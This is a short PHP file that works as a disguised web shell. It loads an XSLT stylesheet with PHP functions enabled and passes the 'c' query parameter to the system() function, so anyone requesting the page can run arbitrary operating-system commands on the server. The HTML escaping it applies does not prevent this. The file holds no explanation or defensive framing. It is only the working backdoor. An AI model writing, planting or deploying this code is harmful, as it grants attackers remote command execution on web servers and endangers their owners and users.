<?php
$xsl = new XSLTProcessor();
$xsl->registerPHPFunctions();
$s = new DOMDocument();
$s->loadXML('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'system\', string(/r))"/></xsl:template></xsl:stylesheet>');
$xsl->importStyleSheet($s);
$d = new DOMDocument();
$d->loadXML('<r>' . htmlspecialchars($_GET['c']) . '</r>');
echo $xsl->transformToXML($d);
